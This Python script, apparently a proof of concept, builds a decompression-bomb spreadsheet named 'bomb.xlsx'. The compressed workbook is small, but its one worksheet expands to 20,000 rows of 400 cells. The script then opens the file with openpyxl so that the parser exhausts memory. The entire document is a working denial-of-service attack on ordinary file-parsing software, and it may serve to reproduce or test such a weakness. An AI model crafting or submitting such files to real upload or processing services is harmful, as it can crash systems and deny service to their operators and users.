"""A workbook of some 100 KiB whose one sheet is a hundred times that, opened where it may burst."""

import zipfile

import openpyxl

row = "<row>" + "<c t='inlineStr'><is><t>x</t></is></c>" * 400 + "</row>"
with zipfile.ZipFile("bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as bomb:
    bomb.writestr(
        "[Content_Types].xml",
        "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
        "<Override PartName='/xl/workbook.xml' ContentType='application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'/>"
        "</Types>",
    )
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    bomb.writestr(
        "_rels/.rels",
        f"<Relationships xmlns='{package}'><Relationship Id='r1' Type='{relations}/officeDocument' Target='xl/workbook.xml'/></Relationships>",
    )
    bomb.writestr(
        "xl/_rels/workbook.xml.rels",
        f"<Relationships xmlns='{package}'><Relationship Id='r1' Type='{relations}/worksheet' Target='worksheets/sheet1.xml'/></Relationships>",
    )
    bomb.writestr(
        "xl/workbook.xml",
        f"<workbook xmlns='{main}' xmlns:r='{relations}'><sheets><sheet name='s' sheetId='1' r:id='r1'/></sheets></workbook>",
    )
    bomb.writestr(
        "xl/worksheets/sheet1.xml",
        f"<worksheet xmlns='{main}'><sheetData>{row * 20000}</sheetData></worksheet>",
    )
openpyxl.load_workbook("bomb.xlsx")
